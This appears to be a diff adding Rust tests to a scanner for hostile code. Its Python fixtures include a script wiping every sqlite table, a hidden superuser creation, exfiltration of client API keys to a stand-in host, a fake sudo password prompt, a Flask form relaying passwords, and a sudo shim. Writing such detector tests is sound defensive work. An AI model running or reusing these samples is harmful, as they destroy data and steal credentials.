@@ -43,3 +43,66 @@ fn agent_files_of_found_projects_and_unguarded_settings() {
         run(read).findings
     );
 }
+
+#[test]
+fn databases_listed_then_destroyed_and_mass_updates() {
+    // Every table sqlite's catalogue lists, deleted by concatenated name.
+    let wipe = "import sqlite3\ndb = sqlite3.connect('x.db')\nnames = db.execute(\"select name from sqlite_schema where type = 'table'\").fetchall()\nfor (n,) in names:\n    db.execute('DELETE FROM ' + n)\n";
+    let a = run(wipe);
+    let f = finding(&a, "MB945");
+    assert_eq!(f.line, 5);
+    assert!(f.detail.contains("line 3"), "{}", f.detail);
+    assert_eq!(a.verdict, Verdict::Blocked);
+    let promote = "def go(cur):\n    cur.execute('update members set is_staff = true, role = 2')\n";
+    assert!(
+        rules(&run(promote)).contains(&"MB945"),
+        "{:?}",
+        run(promote).findings
+    );
+    // A superuser made quietly is HIGH; with a send it is BLOCKED.
+    let role =
+        "def setup(c):\n    c.execute(\"CREATE USER backup_svc WITH SUPERUSER PASSWORD 'x'\")\n";
+    let a = run(role);
+    assert_eq!(a.verdict, Verdict::High, "{:?}", a.findings);
+    assert!(rules(&a).contains(&"MB219"));
+    let leak = "import sqlite3, urllib.request\nrows = sqlite3.connect('app.db').execute('SELECT login, api_key FROM clients').fetchall()\nurllib.request.urlopen('https://collect.example.org', data=repr(rows).encode())\n";
+    assert!(
+        rules(&run(leak)).contains(&"MB945"),
+        "{:?}",
+        run(leak).findings
+    );
+    // Its own table dropped by name, a scoped update, a catalogue read to
+    // print the schema: ordinary.
+    let own = "import sqlite3\nc = sqlite3.connect('cache.db')\nprint(c.execute('select name from sqlite_master').fetchall())\nc.execute('DROP TABLE IF EXISTS cache_v1')\nc.execute('UPDATE users SET role = ? WHERE id = ?', ('admin', 7))\n";
+    let a = run(own);
+    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
+}
+
+#[test]
+fn prompts_in_another_programs_name_and_harvesting_forms() {
+    // A sudo-style prompt whose answer is appended to a hidden file.
+    let sudo = "import getpass, os\n\ndef ask():\n    return getpass.getpass(prompt='[sudo] password for %s: ' % os.getlogin())\n\nsecret = ask()\nwith open(os.path.expanduser('~/.cache/.x'), 'a') as out:\n    out.write(secret)\n";
+    let a = run(sudo);
+    let f = finding(&a, "MB946");
+    assert_eq!(f.line, 8);
+    assert!(f.detail.contains("line 4"), "{}", f.detail);
+    assert_eq!(a.verdict, Verdict::Blocked);
+    // A Flask login form whose posted fields are forwarded.
+    let form = "import requests\nfrom flask import Flask, request\napp = Flask(__name__)\n\n@app.route('/', methods=['GET', 'POST'])\ndef index():\n    if request.method == 'POST':\n        requests.post('https://relay.example.net/c', data=request.form)\n    return '<form method=post><input type=password name=pw></form>'\n";
+    assert!(
+        rules(&run(form)).contains(&"MB946"),
+        "{:?}",
+        run(form).findings
+    );
+    let shim = "import shutil, os\nshutil.copy('wrapper.sh', os.path.join(os.environ['HOME'], 'bin', 'sudo'))\n";
+    assert!(
+        rules(&run(shim)).contains(&"MB946"),
+        "{:?}",
+        run(shim).findings
+    );
+    // Asking for the password of the tool's own service is not phishing.
+    let own = "import getpass, requests\npw = getpass.getpass('Password for your Acme account: ')\nrequests.post('https://acme.example.com/login', json={'password': pw})\n";
+    let a = run(own);
+    assert!(!rules(&a).contains(&"MB946"), "{:?}", a.findings);
+    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
+}
